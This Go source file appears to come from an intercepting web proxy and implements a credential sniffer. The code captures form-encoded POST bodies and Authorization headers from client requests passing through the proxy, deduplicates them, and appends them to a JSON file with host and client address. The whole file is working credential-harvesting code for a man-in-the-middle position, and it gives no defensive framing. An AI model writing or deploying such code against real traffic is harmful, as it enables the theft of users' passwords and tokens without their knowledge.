package sniffer

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"sync"

	"github.com/google/uuid"
	"go.uber.org/zap"

	"github.com/webproxy/webproxy/pkg/httpmsg"
	"github.com/webproxy/webproxy/pkg/proxyerrors"
)

const formURLEncoded = "application/x-www-form-urlencoded"

// Sniffer inspects client-to-origin requests for credentials and records
// each distinct one to a JSON array file.
type Sniffer struct {
	path string
	log  *zap.Logger

	mu    sync.Mutex
	seen  map[string]bool
	count int
}

// New opens (or creates) the capture file at dir/file. A missing or
// malformed file is reset to an empty array rather than treated as fatal:
// credential capture is a best-effort side channel, not a correctness
// requirement of the proxy's forwarding path.
func New(dir, file string, log *zap.Logger) (*Sniffer, error) {
	if log == nil {
		log = zap.NewNop()
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, proxyerrors.NewIOError("create-cred-dir", err)
	}
	s := &Sniffer{
		path: filepath.Join(dir, file),
		log:  log,
		seen: make(map[string]bool),
	}
	if err := s.load(); err != nil {
		log.Warn("credential file unreadable, starting fresh", zap.Error(err))
		if err := os.WriteFile(s.path, []byte("[]\n"), 0o644); err != nil {
			return nil, proxyerrors.NewIOError("reset-cred-file", err)
		}
		s.seen = make(map[string]bool)
		s.count = 0
	}
	return s, nil
}

func (s *Sniffer) load() error {
	raw, err := os.ReadFile(s.path)
	if err != nil {
		if os.IsNotExist(err) {
			return os.WriteFile(s.path, []byte("[]\n"), 0o644)
		}
		return err
	}
	var records []map[string]string
	if err := json.Unmarshal(raw, &records); err != nil {
		return err
	}
	for _, rec := range records {
		host := rec["host"]
		client := rec["client"]
		fields := make(map[string]string, len(rec))
		for k, v := range rec {
			if k != "host" && k != "client" {
				fields[k] = v
			}
		}
		u := &UserRecord{Fields: fields, Host: host, Client: client}
		s.seen[u.dedupeKey()] = true
		s.count++
	}
	return nil
}

// Observe inspects one client-to-origin request, recording any credential
// it carries. clientAddr identifies the client socket for bookkeeping only;
// it never participates in deduplication.
func (s *Sniffer) Observe(clientAddr string, req *httpmsg.Request) error {
	rec := extract(clientAddr, req)
	if rec == nil {
		return nil
	}

	s.mu.Lock()
	defer s.mu.Unlock()

	key := rec.dedupeKey()
	if s.seen[key] {
		return nil
	}
	s.seen[key] = true

	if err := s.appendRecord(rec); err != nil {
		return err
	}
	s.count++
	s.log.Info("captured credential",
		zap.String("capture_id", uuid.NewString()),
		zap.String("host", rec.Host),
		zap.String("client", clientAddr),
	)
	return nil
}

func extract(clientAddr string, req *httpmsg.Request) *UserRecord {
	host := req.Headers.Value("host")
	if req.Method == "POST" && strings.EqualFold(req.Headers.Value("content-type"), formURLEncoded) && len(req.Content) > 0 {
		return &UserRecord{Fields: parseFormBody(req.Content), Host: host, Client: clientAddr}
	}
	if authz := req.Headers.Value("authorization"); authz != "" {
		if fields := parseAuthorization(authz); fields != nil {
			return &UserRecord{Fields: fields, Host: host, Client: clientAddr}
		}
	}
	return nil
}

// appendRecord rewrites just the trailing "]" of the JSON array file into
// ", {...}]\n" (or "{...}]\n" for the first element), so appending a record
// costs a constant-size write rather than re-serializing the whole file.
func (s *Sniffer) appendRecord(rec *UserRecord) error {
	data, err := json.Marshal(rec.toJSONFields())
	if err != nil {
		return proxyerrors.NewIOError("marshal-credential", err)
	}

	f, err := os.OpenFile(s.path, os.O_RDWR, 0o644)
	if err != nil {
		return proxyerrors.NewIOError("open-cred-file", err)
	}
	defer f.Close()

	info, err := f.Stat()
	if err != nil {
		return proxyerrors.NewIOError("stat-cred-file", err)
	}

	var idx int64
	buf := make([]byte, 1)
	found := false
	for idx = info.Size(); idx > 0; {
		idx--
		if _, err := f.ReadAt(buf, idx); err != nil {
			return proxyerrors.NewIOError("scan-cred-file", err)
		}
		if buf[0] == ']' {
			found = true
			break
		}
	}
	if !found {
		return proxyerrors.NewIOError("scan-cred-file", nil)
	}

	prefix := ""
	if s.count > 0 {
		prefix = ", "
	}
	payload := append([]byte(prefix), data...)
	payload = append(payload, ']', '\n')
	if _, err := f.WriteAt(payload, idx); err != nil {
		return proxyerrors.NewIOError("append-cred-file", err)
	}
	return nil
}
